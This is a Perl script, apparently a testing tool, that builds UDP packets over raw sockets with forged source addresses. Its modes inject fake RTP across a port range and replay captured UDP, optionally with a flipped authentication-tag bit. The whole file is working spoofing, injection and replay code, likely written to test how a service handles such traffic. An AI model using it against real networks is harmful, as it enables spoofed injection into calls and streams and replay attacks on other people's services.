#!/usr/bin/perl
# Datagrams with a sender of one's choice, as an attacker on the path makes
# them (raw IPv4, root). Only what perl-base has.
#
#	forge.pl say SRC:PORT DST:PORT [COUNT]   stdin as payload
#	forge.pl say6 SRC PORT DST PORT          the same once over IPv6, by a
#	                                         socket: SRC is ours
#	forge.pl rtp SRC:PORT DST:LOW-HIGH COUNT  RTP of nobody to each port
#	forge.pl replay PCAP SRC DST [FLIP]       captured UDP again; FLIP: with
#	                                          one bit of its tag changed
use strict;
use warnings;
use Socket;

socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw socket: $!\n";

sub datagram {
	my ($src, $sport, $dst, $dport, $payload) = @_;
	my $ip = pack('CCnnnCCn a4 a4', 0x45, 0, 28 + length $payload,
		int rand 65536, 0, 64, 17, 0, inet_aton($src), inet_aton($dst));
	my $udp = pack('nnnn', $sport, $dport, 8 + length $payload, 0);
	send($raw, $ip . $udp . $payload, 0,
		sockaddr_in(0, inet_aton($dst))) or die "send: $!\n";
}

sub say_it {
	my ($src, $dst, $count) = @_;
	my ($sip, $sport) = split /:/, $src;
	my ($dip, $dport) = split /:/, $dst;
	local $/;
	my $text = <STDIN>;
	for my $i (1 .. $count // 1) {
		(my $t = $text) =~ s/\@N\@/$i/g;
		datagram($sip, $sport, $dip, $dport, $t);
		select(undef, undef, undef, 0.01) if $i % 50 == 0;
	}
}

sub say6 {
	my ($src, $sport, $dst, $dport) = @_;
	local $/;
	my $text = <STDIN>;
	socket(my $s, AF_INET6, SOCK_DGRAM, 0) or die "socket: $!\n";
	bind($s, pack_sockaddr_in6($sport, Socket::inet_pton(AF_INET6, $src)))
		or die "$src: $!\n";
	send($s, $text, 0,
		pack_sockaddr_in6($dport, Socket::inet_pton(AF_INET6, $dst)))
		or die "$dst: $!\n";
}

sub rtp {
	my ($src, $dst, $count) = @_;
	my ($sip, $sport) = split /:/, $src;
	my ($dip, $range) = split /:/, $dst;
	my ($low, $high) = split /-/, $range;
	for my $n (1 .. $count) {
		for my $port ($low .. $high) {
			datagram($sip, $sport, $dip, $port,
				pack('CCnNN', 0x80, 0, $n, 160 * $n, 0xdeadbeef) .
				"\xff" x 170);
		}
		select(undef, undef, undef, 0.02);
	}
}

sub replay {
	my ($file, $src, $dst, $flip) = @_;
	my ($head, @frames) = ('');
	open(my $f, '<:raw', $file) or die "$file: $!\n";
	read($f, $head, 24) == 24 or die "$file: too short\n";
	while (read($f, my $h, 16) == 16) {
		my (undef, undef, $len) = unpack('VVV', $h);
		read($f, my $frame, $len) == $len or last;
		next if unpack('n', substr($frame, 12, 2)) != 0x0800;
		push @frames, $frame;
	}
	# only now: the capture may be going on, and sees what we send
	my $sent = 0;
	for my $frame (@frames) {
		my $ip = substr($frame, 14, 20);
		next if unpack('C', substr($ip, 9, 1)) != 17;
		next if inet_ntoa(substr($ip, 12, 4)) ne $src;
		next if inet_ntoa(substr($ip, 16, 4)) ne $dst;
		my ($sport, $dport, $ulen) =
			unpack('nnn', substr($frame, 34, 6));
		my $payload = substr($frame, 42, $ulen - 8);
		substr($payload, -1) ^= "\x01" if $flip;
		datagram($src, $sport, $dst, $dport, $payload);
		$sent++;
		select(undef, undef, undef, 0.0003);
	}
	print "$sent\n";
}

my $what = shift // '';
if ($what eq 'say') { say_it(@ARGV) }
elsif ($what eq 'say6') { say6(@ARGV) }
elsif ($what eq 'rtp') { rtp(@ARGV) }
elsif ($what eq 'replay') { replay(@ARGV) }
else { die "forge.pl say|say6|rtp|replay ...\n" }
